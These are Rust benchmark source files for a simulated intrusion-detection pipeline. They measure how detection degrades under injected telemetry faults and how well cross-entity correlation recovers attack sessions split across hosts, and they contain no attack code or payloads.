                // Gates presume the full 240-session campaign; tiny CI
                // scales have 3-6 sessions per family and are recorded
                // informationally.
                "applicable": scale >= 1.0,
                "pass": scale < 1.0 || recovery_pass,
            },
            "fp_budget": {
                "reference_dilation": REFERENCE_DILATION,
                "max_ratio": FP_BUDGET_RATIO,
                "fp_per_million_reference": fp_at_reference,
                "fp_per_million_at_gate": fp_at_gate,
                "ratio": fp_ratio,
                "applicable": scale >= 1.0,
                "pass": scale < 1.0 || fp_pass,
            },
            "steady_state_allocations": {
                "per_record": steady_allocs_per_record,
                "limit": ALLOC_GATE_PER_RECORD,
                "pass": alloc_pass,
            },
        },
    });
    let out = std::env::var("BENCH_OUT").unwrap_or_else(|_| "BENCH_5.json".to_string());
    std::fs::write(
        &out,
        serde_json::to_string_pretty(&artifact).expect("serialize"),
    )
    .expect("write BENCH_5.json");
    println!("[artifact] {out}");

    // Hard gates. Allocation and byte-identity hold at any scale; the
    // detection-quality gates presume the full-scale campaign.
    assert!(alloc_pass, "steady-state allocations per record regressed");
    let enforce = std::env::var("BENCH_ENFORCE").map_or(true, |v| v != "0");
    if enforce && scale >= 1.0 {
        assert!(
            recovery_pass,
            "8x-dilation recovery gate failed: sqli-webapp {sqli:.2}, data-exfil {exfil:.2}"
        );
        assert!(
            fp_pass,
            "FP budget gate failed: {fp_ratio:.2}x over the 2x reference"
        );
    } else if !(recovery_pass && fp_pass) {
        println!(
            "NOTE: quality gates not enforced ({})",
            if scale < 1.0 {
                format!("BENCH_SCALE={scale} < 1")
            } else {
                "BENCH_ENFORCE=0".to_string()
            }
        );
    }
}
