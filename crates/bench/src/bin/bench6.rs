//! BENCH_6 — fault injection & degraded-mode operation.
//!
//! Production telemetry is not the clean, lossless, ordered stream the
//! earlier benches replay: sensors black out, records drop, duplicate and
//! arrive out of order, and the response path's block RPCs fail. This
//! bench sweeps the seed-2809840877 campaign (the BENCH_3/BENCH_5
//! workload) across six fault profiles and gates on graceful degradation:
//!
//! - **clean** — the reference point.
//! - **loss-1pct / loss-10pct** — i.i.d. record loss.
//! - **monitor-blackout** — four 2-hour outages of the Notice monitor
//!   (scan telemetry), declared to the detector as *known* blackouts so
//!   the temporal policy relaxes instead of reading silence as decay.
//! - **dup-reorder** — 5% duplication + 64-record bounded reordering,
//!   with the detector's duplicate-suppression window active.
//! - **block-rpc-30pct** — clean telemetry, but 30% of block RPCs fail
//!   transiently; the retrying response path must land every block.
//!
//! Gates:
//!
//! - **Loss degradation** — overall preemption at 10% i.i.d. loss stays
//!   ≥ 0.85x of the clean run.
//! - **Zero lost blocks** — at 30% transient block-RPC failure no block
//!   is abandoned, every intended source lands in the BHR table, and
//!   damage preemption stays within 5% of clean.
//! - **Invariants** — inline and sharded detections byte-identical at
//!   every profile, and the faulted symbolize → filter → observe path
//!   (injector + dedup active) stays allocation-free (< 0.05
//!   allocs/record) in steady state.
//!
//! Emits `BENCH_6.json` (at the workspace root, or `$BENCH_OUT`) with a
//! top-level `fault_sweep` array.
//! Run with: `cargo run --release -p bench --bin bench6`
//! Scale the workload with `BENCH_SCALE` (default 1.0; CI uses 0.2 —
//! quality gates are asserted at full scale, recorded otherwise).

use std::time::Instant;

use bench::detection_bytes;
use bhr::api::BhrHandle;
use bhr::retry::FlakyBackend;
use scenario::faults::{BlackoutScope, BlackoutWindow, ClockSkewConfig, FaultInjector, FaultPlan};
use scenario::mutate::{generate_campaign, CampaignConfig, MutationConfig};
use scenario::stream::RecordStreamConfig;
use simnet::alloc_count::{allocations, CountingAllocator};
use simnet::rng::SimRng;
use simnet::time::{SimDuration, SimTime};
use telemetry::record::RecordKind;
use testbed::stage::PipelineBuilder;
use testbed::TestbedConfig;

#[global_allocator]
static GLOBAL: CountingAllocator = CountingAllocator;

/// Overall preemption at 10% loss must stay within this factor of clean.
const LOSS_GATE_RATIO: f64 = 0.85;
/// Transient failure probability of the flaky block backend.
const BLOCK_FAIL_PROB: f64 = 0.30;
/// Preemption drift tolerated under transient block failure (relative).
const BLOCK_GATE_TOLERANCE: f64 = 0.05;
const ALLOC_GATE_PER_RECORD: f64 = 0.05;
/// Seed of the flaky backend's failure stream — fresh identically-seeded
/// backend per executor run so inline and sharded see the same failures.
const FLAKY_SEED: u64 = 0xB10C_FA11;
const FAULT_SEED: u64 = 0xFA_017;

fn campaign_cfg(scale: f64) -> CampaignConfig {
    CampaignConfig {
        sessions: ((240.0 * scale) as usize).max(16),
        horizon: SimDuration::from_days(3),
        mutation: MutationConfig::default(),
        background: Some(RecordStreamConfig {
            scan_records: (400_000.0 * scale) as usize,
            benign_flows: (150_000.0 * scale) as usize,
            exec_records: (450_000.0 * scale) as usize,
            users: 4_000,
            horizon: SimDuration::from_days(3),
            indicative_exec_fraction: 0.02,
            ..RecordStreamConfig::default()
        }),
        ..CampaignConfig::default()
    }
}

/// One point of the fault-intensity sweep.
struct Profile {
    name: &'static str,
    plan: Option<FaultPlan>,
    /// Declare the plan's blackout windows to the detector.
    declare_blackouts: bool,
    /// Enable the detector's duplicate-suppression window.
    dedup: bool,
    /// Route block RPCs through a 30%-failing backend.
    flaky_blocks: bool,
}

fn profiles(start: SimTime) -> Vec<Profile> {
    // Four 2-hour Notice-monitor outages spread over the 3-day horizon.
    let mut blackout = FaultPlan::clean(FAULT_SEED).named("monitor-blackout");
    for k in 0..4u64 {
        let s = start + SimDuration::from_hours(6 + 18 * k);
        blackout = blackout.with_blackout(BlackoutWindow {
            start: s,
            end: s + SimDuration::from_hours(2),
            scope: BlackoutScope::Monitor(RecordKind::Notice),
        });
    }
    vec![
        Profile {
            name: "clean",
            plan: None,
            declare_blackouts: false,
            dedup: false,
            flaky_blocks: false,
        },
        Profile {
            name: "loss-1pct",
            plan: Some(
                FaultPlan::clean(FAULT_SEED)
                    .named("loss-1pct")
                    .with_loss(0.01),
            ),
            declare_blackouts: false,
            dedup: false,
            flaky_blocks: false,
        },
        Profile {
            name: "loss-10pct",
            plan: Some(
                FaultPlan::clean(FAULT_SEED)
                    .named("loss-10pct")
                    .with_loss(0.10),
            ),
            declare_blackouts: false,
            dedup: false,
            flaky_blocks: false,
        },
        Profile {
            name: "monitor-blackout",
            plan: Some(blackout),
            declare_blackouts: true,
            dedup: false,
            flaky_blocks: false,
        },
        Profile {
            name: "dup-reorder",
            plan: Some(dup_reorder_plan()),
            declare_blackouts: false,
            dedup: true,
            flaky_blocks: false,
        },
        Profile {
            name: "block-rpc-30pct",
            plan: None,
            declare_blackouts: false,
            dedup: false,
            flaky_blocks: true,
        },
    ]
}

fn dup_reorder_plan() -> FaultPlan {
    FaultPlan::clean(FAULT_SEED)
        .named("dup-reorder")
        .with_duplication(0.05)
        .with_reorder(64)
        .with_clock(ClockSkewConfig {
            max_skew: SimDuration::from_secs(30),
            jitter: SimDuration::from_secs(2),
        })
}

fn pipeline(
    tb_cfg: &TestbedConfig,
    model: factorgraph::chain::ChainModel,
    profile: &Profile,
) -> (PipelineBuilder, BhrHandle) {
    let handle = if profile.flaky_blocks {
        BhrHandle::with_backend(FlakyBackend::new(BLOCK_FAIL_PROB, FLAKY_SEED))
    } else {
        BhrHandle::new()
    };
    let mut b = PipelineBuilder::from_config(tb_cfg, model)
        .alert_retention(1_000)
        .bhr(handle.clone());
    if let Some(plan) = &profile.plan {
        b = b.faults(plan.clone());
        if profile.declare_blackouts {
            b = b.known_blackouts(plan.blackout_spans());
        }
    }
    if profile.dedup {
        let mut temporal = tb_cfg.tagger.temporal.clone();
        temporal.dedup_window = Some(SimDuration::from_mins(5));
        b = b.temporal(temporal);
    }
    (b, handle)
}

fn main() {
    let scale: f64 = std::env::var("BENCH_SCALE")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1.0);
    bench::banner("BENCH_6: fault injection & degraded mode — preemption vs fault intensity");

    let tb_cfg = TestbedConfig::default();
    let cores = rayon::current_num_threads();
    let model = bench::standard_model();
    let ccfg = campaign_cfg(scale);
    let campaign = generate_campaign(&ccfg, &mut SimRng::seed(tb_cfg.seed));
    let n_in = campaign.records.len();

    let mut points = Vec::new();
    let mut clean_preemption = f64::NAN;
    let mut loss10_preemption = f64::NAN;
    let mut flaky_preemption = f64::NAN;
    let mut flaky_zero_lost = false;

    println!(
        "{:<17} {:>9} {:>9} {:>10} {:>8} {:>8} {:>8} {:>9}",
        "profile", "rec-out", "preempt%", "fp/M", "dedup", "retried", "aband.", "inline-s"
    );
    for profile in profiles(ccfg.start) {
        let (builder, _) = pipeline(&tb_cfg, model.clone(), &profile);
        let t0 = Instant::now();
        let inline = builder.build().run_inline(campaign.records.clone());
        let inline_s = t0.elapsed().as_secs_f64();
        let (builder, handle) = pipeline(&tb_cfg, model.clone(), &profile);
        let sharded = builder.build().run_sharded(campaign.records.clone());
        assert_eq!(
            detection_bytes(&inline),
            detection_bytes(&sharded),
            "{}: sharded detections must be byte-identical to inline",
            profile.name
        );
        assert_eq!(inline.stats, sharded.stats);
        assert_eq!(inline.blocks_abandoned, sharded.blocks_abandoned);
        assert_eq!(inline.duplicates_suppressed, sharded.duplicates_suppressed);

        let eval = testbed::evaluate_campaign(&inline, &campaign.truth);
        let preemption = eval.overall.preemption_rate;
        match profile.name {
            "clean" => clean_preemption = preemption,
            "loss-10pct" => loss10_preemption = preemption,
            "block-rpc-30pct" => {
                flaky_preemption = preemption;
                // Zero permanently-lost blocks: nothing abandoned, and
                // every source the stage decided to block is actually in
                // the shared BHR table (sharded run's handle).
                flaky_zero_lost = sharded.blocks_abandoned == 0
                    && handle.active_blocks() as u64 == sharded.blocked_sources;
                assert!(
                    sharded.blocks_retried > 0 || sharded.blocked_sources == 0,
                    "a 30%-failing backend must exercise the retry queue"
                );
            }
            _ => {}
        }

        println!(
            "{:<17} {:>9} {:>8.1}% {:>10.1} {:>8} {:>8} {:>8} {:>9.3}",
            profile.name,
            inline.stats.records,
            preemption * 100.0,
            eval.fp_per_million_background,
            inline.duplicates_suppressed,
            inline.blocks_retried,
            inline.blocks_abandoned,
            inline_s,
        );
        let fault_json = inline.fault.as_ref().map(|f| {
            serde_json::json!({
                "records_in": f.records_in,
                "records_out": f.records_out,
                "lost_iid": f.lost_iid,
                "lost_blackout": f.lost_blackout,
                "duplicated": f.duplicated,
                "reordered": f.reordered,
                "skewed": f.skewed,
            })
        });
        points.push(serde_json::json!({
            "fault_profile": profile.name,
            "records_in": n_in,
            "records_out": inline.stats.records,
            "fault": fault_json.unwrap_or_else(|| serde_json::json!({})),
            "duplicates_suppressed": inline.duplicates_suppressed,
            "blocks_retried": inline.blocks_retried,
            "blocks_abandoned": inline.blocks_abandoned,
            "notifications_retried": inline.notifications_retried,
            "notifications_abandoned": inline.notifications_abandoned,
            "blocked_sources": inline.blocked_sources,
            "inline_seconds": inline_s,
            "detections_byte_identical": true,
            "eval": eval.to_json(),
        }));
    }

    // Steady-state allocations with fault injection and dedup active:
    // warm the injector → symbolize → filter → observe path once, then
    // count a full second pass.
    let mut inj = FaultInjector::new(dup_reorder_plan());
    let mut sym = alertlib::Symbolizer::new(tb_cfg.symbolizer.clone());
    let mut filt = alertlib::ScanFilter::new(tb_cfg.filter.clone());
    let mut tagger_cfg = tb_cfg.tagger.clone();
    tagger_cfg.temporal.dedup_window = Some(SimDuration::from_mins(5));
    let mut tagger = detect::AttackTagger::new(model.clone(), tagger_cfg);
    let mut faulted = Vec::with_capacity(256);
    let mut alerts = Vec::with_capacity(64);
    for r in &campaign.records {
        faulted.clear();
        inj.push(r.clone(), &mut faulted);
        for fr in &faulted {
            alerts.clear();
            sym.symbolize_into(fr, &mut alerts);
            for a in &alerts {
                if filt.admit(a) {
                    tagger.observe(a);
                }
            }
        }
    }
    faulted.clear();
    inj.finish(&mut faulted);
    let (steady_allocs, _) = allocations(|| {
        let mut d = 0u64;
        for r in &campaign.records {
            faulted.clear();
            inj.push(r.clone(), &mut faulted);
            for fr in &faulted {
                alerts.clear();
                sym.symbolize_into(fr, &mut alerts);
                for a in &alerts {
                    if filt.admit(a) && tagger.observe(a).is_some() {
                        d += 1;
                    }
                }
            }
        }
        faulted.clear();
        inj.finish(&mut faulted);
        d
    });
    let steady_allocs_per_record = steady_allocs as f64 / n_in as f64;

    let loss_ratio = if clean_preemption > 0.0 {
        loss10_preemption / clean_preemption
    } else {
        1.0
    };
    let flaky_drift = if clean_preemption > 0.0 {
        (flaky_preemption - clean_preemption).abs() / clean_preemption
    } else {
        0.0
    };
    let loss_pass = loss_ratio >= LOSS_GATE_RATIO;
    let block_pass = flaky_zero_lost && flaky_drift <= BLOCK_GATE_TOLERANCE;
    let alloc_pass = steady_allocs_per_record < ALLOC_GATE_PER_RECORD;

    println!(
        "\nloss gate  : preemption {:.1}% at 10% loss vs {:.1}% clean ({:.2}x, floor {LOSS_GATE_RATIO}x) -> {}",
        loss10_preemption * 100.0,
        clean_preemption * 100.0,
        loss_ratio,
        if loss_pass { "PASS" } else { "FAIL" },
    );
    println!(
        "block gate : zero lost blocks {} / preemption drift {:.2}% (limit {:.0}%) -> {}",
        flaky_zero_lost,
        flaky_drift * 100.0,
        BLOCK_GATE_TOLERANCE * 100.0,
        if block_pass { "PASS" } else { "FAIL" },
    );
    println!(
        "allocations: {steady_allocs_per_record:.6}/record steady-state (limit {ALLOC_GATE_PER_RECORD}) -> {}",
        if alloc_pass { "PASS" } else { "FAIL" },
    );

    let artifact = serde_json::json!({
        "workload": {
            "sessions": ccfg.sessions,
            "records_in": n_in,
            "scale": scale,
            "seed": tb_cfg.seed,
        },
        "cores": cores,
        "fault_sweep": points,
        "detections_byte_identical": true,
        "acceptance": {
            "loss_degradation": {
                "clean_preemption": clean_preemption,
                "loss10_preemption": loss10_preemption,
                "ratio": loss_ratio,
                "floor": LOSS_GATE_RATIO,
                "applicable": scale >= 1.0,
                "pass": scale < 1.0 || loss_pass,
            },
            "transient_block_failure": {
                "fail_prob": BLOCK_FAIL_PROB,
                "blocks_abandoned_zero": flaky_zero_lost,
                "preemption_drift": flaky_drift,
                "max_drift": BLOCK_GATE_TOLERANCE,
                "pass": block_pass,
            },
            "steady_state_allocations": {
                "per_record": steady_allocs_per_record,
                "limit": ALLOC_GATE_PER_RECORD,
                "pass": alloc_pass,
            },
        },
    });
    let out = std::env::var("BENCH_OUT").unwrap_or_else(|_| "BENCH_6.json".to_string());
    std::fs::write(
        &out,
        serde_json::to_string_pretty(&artifact).expect("serialize"),
    )
    .expect("write BENCH_6.json");
    println!("[artifact] {out}");

    // Hard gates. Allocation, byte-identity, and the zero-lost-blocks
    // invariant hold at any scale; the loss-degradation gate presumes the
    // full-scale campaign.
    assert!(alloc_pass, "steady-state allocations per record regressed");
    assert!(
        block_pass,
        "transient block-RPC failure gate failed: zero_lost={flaky_zero_lost} drift={flaky_drift:.3}"
    );
    let enforce = std::env::var("BENCH_ENFORCE").map_or(true, |v| v != "0");
    if enforce && scale >= 1.0 {
        assert!(
            loss_pass,
            "loss-degradation gate failed: {loss_ratio:.2}x below the {LOSS_GATE_RATIO}x floor"
        );
    } else if !loss_pass {
        println!(
            "NOTE: loss gate not enforced ({})",
            if scale < 1.0 {
                format!("BENCH_SCALE={scale} < 1")
            } else {
                "BENCH_ENFORCE=0".to_string()
            }
        );
    }
}
