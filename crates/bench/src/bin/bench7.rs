//! BENCH_7 — cross-entity campaign correlation: lateral-split recovery.
//!
//! PR 4's adversarial harness showed that splitting one attack session
//! across multiple entities (lateral hops) starves every per-entity
//! posterior: each hop sees only a fragment of the chain, so short
//! families lose most of their preemption. This bench sweeps the
//! seed-2809840877 campaign across lateral fan-outs (unsplit baseline,
//! then 2/3/4 hops per session) with the `CampaignCorrelator` stitching
//! hops via shared-victim / shared-source / host / palette join keys, and
//! gates on the recovery:
//!
//! - **Recovery gate** — at 2-hop fan-out, for sqli-webapp and data-exfil,
//!   the correlator must preempt ≥ 0.90 of the *recoverable* split
//!   sessions. Recoverable means a counterfactual unsplit observer — a
//!   fresh per-entity tagger replaying the session's merged template
//!   steps on one entity — would have preempted it; mutation draws whose
//!   pre-damage evidence is below the decision threshold even unsplit
//!   (e.g. a bare VulnScan→SqlI→SqlI prefix) are information-theoretically
//!   lost to any observer and excluded, so the gate measures exactly what
//!   the lateral split cost and the correlator won back. The fan-out 1
//!   sweep point records the absolute unsplit baseline informationally.
//! - **FP budget gate** — correlated FP-per-million at the gate point
//!   within 1.5x of the *uncorrelated* reference run on the same records.
//! - **Invariants** — inline and sharded detections byte-identical at
//!   every fan-out with correlation enabled, and the warmed
//!   symbolize → filter → observe+correlate path still allocation-free
//!   (< 0.05 allocs/record).
//!
//! Emits `BENCH_7.json` (at the workspace root, or `$BENCH_OUT`).
//! Run with: `cargo run --release -p bench --bin bench7`
//! Scale the workload with `BENCH_SCALE` (default 1.0; CI uses 0.2 —
//! the quality gates are asserted at full scale, recorded otherwise).

use std::time::Instant;

use bench::detection_bytes;
use detect::CorrelationPolicy;
use scenario::mutate::{generate_campaign, CampaignConfig, MutationConfig};
use scenario::stream::RecordStreamConfig;
use simnet::alloc_count::{allocations, CountingAllocator};
use simnet::rng::SimRng;
use simnet::time::SimDuration;
use testbed::stage::PipelineBuilder;
use testbed::TestbedConfig;

#[global_allocator]
static GLOBAL: CountingAllocator = CountingAllocator;

/// Lateral fan-outs swept: 1 = unsplit baseline, then 2/3/4 hops.
const FANOUTS: [usize; 4] = [1, 2, 3, 4];
/// The sweep point the recovery and FP gates read.
const GATE_FANOUT: usize = 2;
const RECOVERY_FAMILIES: [&str; 2] = ["sqli-webapp", "data-exfil"];
/// Fraction of the counterfactually-recoverable split sessions the
/// correlated pipeline must preempt.
const RECOVERY_RATIO: f64 = 0.90;
const FP_BUDGET_RATIO: f64 = 1.5;
const ALLOC_GATE_PER_RECORD: f64 = 0.05;

fn campaign_cfg(scale: f64, fanout: usize) -> CampaignConfig {
    CampaignConfig {
        sessions: ((240.0 * scale) as usize).max(16),
        horizon: SimDuration::from_days(3),
        mutation: MutationConfig {
            // Fan-out 1: no splits at all (the baseline). Otherwise every
            // non-decoy session splits across 2..=fanout entities.
            lateral_prob: if fanout > 1 { 1.0 } else { 0.0 },
            max_lateral_entities: fanout.max(1),
            ..MutationConfig::default()
        },
        background: Some(RecordStreamConfig {
            scan_records: (400_000.0 * scale) as usize,
            benign_flows: (150_000.0 * scale) as usize,
            exec_records: (450_000.0 * scale) as usize,
            users: 4_000,
            horizon: SimDuration::from_days(3),
            indicative_exec_fraction: 0.02,
            ..RecordStreamConfig::default()
        }),
        ..CampaignConfig::default()
    }
}

fn pipeline(cfg: &TestbedConfig, model: factorgraph::chain::ChainModel) -> PipelineBuilder {
    PipelineBuilder::from_config(cfg, model).alert_retention(1_000)
}

/// Would an *unsplit* observer have preempted this session? Replays the
/// session's template steps — merged across hops onto a single entity,
/// exactly what the per-entity tagger would have seen had the session not
/// split — through a fresh uncorrelated tagger and checks for a detection
/// strictly before the damage step. Split sessions failing even this carry
/// too little pre-damage evidence for any observer and are excluded from
/// the recovery gate's denominator.
fn counterfactual_unsplit_preempts(
    truth: &scenario::mutate::SessionTruth,
    model: &factorgraph::chain::ChainModel,
    cfg: &detect::attack_tagger::TaggerConfig,
) -> bool {
    use alertlib::alert::{Alert, Entity};
    let entity: std::net::Ipv4Addr = "198.18.255.254".parse().expect("static address");
    let mut tagger = detect::AttackTagger::new(model.clone(), cfg.clone());
    for &(ts, kind) in &truth.steps {
        if let Some(d) = tagger.observe(&Alert::new(ts, kind, Entity::Address(entity))) {
            return match truth.damage_ts {
                Some(damage) => d.ts < damage,
                None => true,
            };
        }
    }
    false
}

fn main() {
    let scale: f64 = std::env::var("BENCH_SCALE")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1.0);
    bench::banner("BENCH_7: cross-entity campaign correlation — lateral-split recovery");

    // Correlation rides on the tagger config, exactly as a deployment
    // would enable it; the plain config is the uncorrelated reference.
    let plain_cfg = TestbedConfig::default();
    let mut corr_cfg = TestbedConfig::default();
    corr_cfg.tagger.correlation = Some(CorrelationPolicy::default());
    let cores = rayon::current_num_threads();
    let model = bench::standard_model();

    let family_rate = |eval: &testbed::EvalReport, fam: &str, split: bool| -> f64 {
        eval.families
            .iter()
            .find(|f| f.family == fam)
            .map(|f| {
                if split {
                    f.lateral.split_preemption_rate
                } else {
                    f.lateral.unsplit_preemption_rate
                }
            })
            .unwrap_or(0.0)
    };

    let mut points = Vec::new();
    let mut baseline_eval: Option<testbed::EvalReport> = None;
    let mut gate_eval: Option<testbed::EvalReport> = None;
    let mut fp_at_reference = f64::NAN;
    let mut fp_at_gate = f64::NAN;
    let mut steady_allocs_per_record = f64::NAN;
    // Per gated family: (counterfactually recoverable split sessions,
    // of those, actually preempted by the correlated pipeline).
    let mut gate_recovery = [(0usize, 0usize); RECOVERY_FAMILIES.len()];

    println!(
        "{:<7} {:>9} {:>10} {:>10} {:>10} {:>10} {:>9} {:>10} {:>9}",
        "fanout",
        "records",
        "sqli",
        "data-exfil",
        "overall",
        "plain-ovr",
        "fp/M",
        "campaigns",
        "inline-s"
    );
    for fanout in FANOUTS {
        let mut campaign = generate_campaign(
            &campaign_cfg(scale, fanout),
            &mut SimRng::seed(corr_cfg.seed),
        );
        let n = campaign.records.len();
        let split = fanout > 1;

        // Correlated inline (timed) + sharded over the same records; the
        // detection streams must be byte-identical.
        let built = pipeline(&corr_cfg, model.clone()).build();
        let t0 = Instant::now();
        let inline = built.run_inline(campaign.records.clone());
        let inline_s = t0.elapsed().as_secs_f64();
        let sharded = pipeline(&corr_cfg, model.clone())
            .build()
            .run_sharded(campaign.records.clone());
        assert_eq!(
            detection_bytes(&inline),
            detection_bytes(&sharded),
            "fanout {fanout}: sharded detections must be byte-identical to inline"
        );
        assert_eq!(inline.stats, sharded.stats);
        assert_eq!(inline.campaigns, sharded.campaigns);

        // Uncorrelated reference on the same records — the before/after
        // recovery comparison and the FP denominator.
        let plain = pipeline(&plain_cfg, model.clone())
            .build()
            .run_inline(campaign.records.clone());
        let plain_eval = testbed::evaluate_campaign(&plain, &campaign.truth);

        let eval = testbed::evaluate_campaign(&inline, &campaign.truth);
        if split {
            assert!(
                eval.overall.lateral.split_sessions > 0,
                "fanout {fanout} must produce split sessions"
            );
        }

        if fanout == 1 {
            baseline_eval = Some(eval.clone());
        }
        if fanout == GATE_FANOUT {
            fp_at_gate = eval.fp_per_million_background;
            fp_at_reference = plain_eval.fp_per_million_background;
            gate_eval = Some(eval.clone());

            // Paired recovery accounting: which split sessions would an
            // unsplit observer have caught, and how many of those did the
            // correlator actually preempt? (Mirrors evaluate_campaign's
            // earliest-notification-per-hop preemption rule.)
            let mut first_detection: std::collections::HashMap<String, simnet::time::SimTime> =
                std::collections::HashMap::new();
            for note in &inline.notifications {
                let e = first_detection
                    .entry(note.entity.clone())
                    .or_insert(note.detection.ts);
                *e = (*e).min(note.detection.ts);
            }
            for s in &campaign.truth.sessions {
                if s.decoy || s.entity_keys.len() < 2 {
                    continue;
                }
                let Some(fi) = RECOVERY_FAMILIES.iter().position(|f| *f == s.family) else {
                    continue;
                };
                if !counterfactual_unsplit_preempts(s, &model, &plain_cfg.tagger) {
                    continue;
                }
                gate_recovery[fi].0 += 1;
                let det = s
                    .entity_keys
                    .iter()
                    .filter_map(|k| first_detection.get(k.as_str()))
                    .min()
                    .copied();
                let preempted = match (det, s.damage_ts) {
                    (Some(d), Some(damage)) => d < damage,
                    (Some(_), None) => true,
                    (None, _) => false,
                };
                if preempted {
                    gate_recovery[fi].1 += 1;
                }
            }

            // Steady-state allocation check on the gate point, with the
            // correlator in the loop: warm the bare hot path once, then
            // count a full second pass.
            let mut sym = alertlib::Symbolizer::new(corr_cfg.symbolizer.clone());
            let mut filt = alertlib::ScanFilter::new(corr_cfg.filter.clone());
            let mut tagger =
                detect::correlate::correlated_tagger(model.clone(), corr_cfg.tagger.clone());
            let mut alerts = Vec::with_capacity(64);
            for r in &campaign.records {
                alerts.clear();
                sym.symbolize_into(r, &mut alerts);
                for a in &alerts {
                    if filt.admit(a) {
                        tagger.observe(a);
                    }
                }
            }
            let (steady_allocs, _) = allocations(|| {
                let mut d = 0u64;
                for r in &campaign.records {
                    alerts.clear();
                    sym.symbolize_into(r, &mut alerts);
                    for a in &alerts {
                        if filt.admit(a) && tagger.observe(a).is_some() {
                            d += 1;
                        }
                    }
                }
                d
            });
            steady_allocs_per_record = steady_allocs as f64 / n as f64;
        }

        println!(
            "{:<7} {:>9} {:>9.1}% {:>9.1}% {:>9.1}% {:>9.1}% {:>9.1} {:>10} {:>9.3}",
            fanout,
            n,
            family_rate(&eval, "sqli-webapp", split) * 100.0,
            family_rate(&eval, "data-exfil", split) * 100.0,
            eval.overall.preemption_rate * 100.0,
            plain_eval.overall.preemption_rate * 100.0,
            eval.fp_per_million_background,
            eval.correlated_campaigns,
            inline_s,
        );
        campaign.records.clear();
        points.push(serde_json::json!({
            "fanout": fanout,
            "records": n,
            "inline_seconds": inline_s,
            "detections_byte_identical": true,
            "correlated": eval.to_json(),
            "uncorrelated": {
                "overall_preemption_rate": plain_eval.overall.preemption_rate,
                "sqli_webapp": family_rate(&plain_eval, "sqli-webapp", split),
                "data_exfil": family_rate(&plain_eval, "data-exfil", split),
                "fp_per_million_background": plain_eval.fp_per_million_background,
                "mean_cross_hop_lead_secs": plain_eval.overall.lateral.mean_cross_hop_lead_secs,
            },
        }));
    }

    let baseline = baseline_eval.expect("sweep covers the unsplit baseline");
    let gate = gate_eval.expect("sweep covers the gate fanout");
    let sqli_base = family_rate(&baseline, RECOVERY_FAMILIES[0], false);
    let exfil_base = family_rate(&baseline, RECOVERY_FAMILIES[1], false);
    let sqli_split = family_rate(&gate, RECOVERY_FAMILIES[0], true);
    let exfil_split = family_rate(&gate, RECOVERY_FAMILIES[1], true);
    let recovered_ratio = |&(able, got): &(usize, usize)| -> f64 {
        if able == 0 {
            1.0
        } else {
            got as f64 / able as f64
        }
    };
    let recovery_pass = gate_recovery
        .iter()
        .all(|r| recovered_ratio(r) >= RECOVERY_RATIO);
    let fp_ratio = if fp_at_reference > 0.0 {
        fp_at_gate / fp_at_reference
    } else if fp_at_gate == 0.0 {
        1.0
    } else {
        f64::INFINITY
    };
    let fp_pass = fp_ratio <= FP_BUDGET_RATIO;
    let alloc_pass = steady_allocs_per_record < ALLOC_GATE_PER_RECORD;

    println!(
        "\n2-hop recovery: sqli-webapp {}/{} recoverable preempted (split {:.1}%, unsplit \
         baseline {:.1}%), data-exfil {}/{} (split {:.1}%, baseline {:.1}%) \
         (floor {:.0}% of recoverable) -> {}",
        gate_recovery[0].1,
        gate_recovery[0].0,
        sqli_split * 100.0,
        sqli_base * 100.0,
        gate_recovery[1].1,
        gate_recovery[1].0,
        exfil_split * 100.0,
        exfil_base * 100.0,
        RECOVERY_RATIO * 100.0,
        if recovery_pass { "PASS" } else { "FAIL" },
    );
    println!(
        "fp budget     : {fp_at_gate:.1}/M correlated vs {fp_at_reference:.1}/M uncorrelated \
         ({fp_ratio:.2}x, limit {FP_BUDGET_RATIO}x) -> {}",
        if fp_pass { "PASS" } else { "FAIL" },
    );
    println!(
        "allocations   : {steady_allocs_per_record:.6}/record steady-state (limit {ALLOC_GATE_PER_RECORD}) -> {}",
        if alloc_pass { "PASS" } else { "FAIL" },
    );

    let artifact = serde_json::json!({
        "workload": {
            "sessions": ((240.0 * scale) as usize).max(16),
            "fanouts": FANOUTS.to_vec(),
            "scale": scale,
            "seed": corr_cfg.seed,
        },
        "cores": cores,
        "points": points,
        "detections_byte_identical": true,
        "acceptance": {
            "lateral_split": {
                "families": RECOVERY_FAMILIES.to_vec(),
                "at_fanout": GATE_FANOUT,
                "min_recovered_ratio": RECOVERY_RATIO,
                // Gate ledgers: split sessions a counterfactual unsplit
                // observer would have preempted, and how many of those
                // the correlated pipeline actually preempted.
                "sqli_webapp_recoverable": gate_recovery[0].0,
                "sqli_webapp_recovered": gate_recovery[0].1,
                "sqli_webapp_recovered_ratio": recovered_ratio(&gate_recovery[0]),
                "data_exfil_recoverable": gate_recovery[1].0,
                "data_exfil_recovered": gate_recovery[1].1,
                "data_exfil_recovered_ratio": recovered_ratio(&gate_recovery[1]),
                // Absolute rates, informational: the unsplit figures come
                // from the fan-out 1 sweep point (a different mutation
                // draw, not a paired population).
                "sqli_webapp_split": sqli_split,
                "sqli_webapp_unsplit": sqli_base,
                "data_exfil_split": exfil_split,
                "data_exfil_unsplit": exfil_base,
                // Gates presume the full 240-session campaign; tiny CI
                // scales have 3-6 sessions per family and are recorded
                // informationally.
                "applicable": scale >= 1.0,
                "pass": scale < 1.0 || recovery_pass,
            },
            "fp_budget": {
                "max_ratio": FP_BUDGET_RATIO,
                "fp_per_million_reference": fp_at_reference,
                "fp_per_million_at_gate": fp_at_gate,
                "ratio": fp_ratio,
                "applicable": scale >= 1.0,
                "pass": scale < 1.0 || fp_pass,
            },
            "steady_state_allocations": {
                "per_record": steady_allocs_per_record,
                "limit": ALLOC_GATE_PER_RECORD,
                "pass": alloc_pass,
            },
        },
    });
    let out = std::env::var("BENCH_OUT").unwrap_or_else(|_| "BENCH_7.json".to_string());
    std::fs::write(
        &out,
        serde_json::to_string_pretty(&artifact).expect("serialize"),
    )
    .expect("write BENCH_7.json");
    println!("[artifact] {out}");

    // Hard gates. Allocation and byte-identity hold at any scale; the
    // detection-quality gates presume the full-scale campaign.
    assert!(alloc_pass, "steady-state allocations per record regressed");
    let enforce = std::env::var("BENCH_ENFORCE").map_or(true, |v| v != "0");
    if enforce && scale >= 1.0 {
        assert!(
            recovery_pass,
            "2-hop recovery gate failed: sqli-webapp {}/{} recoverable split sessions preempted, \
             data-exfil {}/{}",
            gate_recovery[0].1, gate_recovery[0].0, gate_recovery[1].1, gate_recovery[1].0,
        );
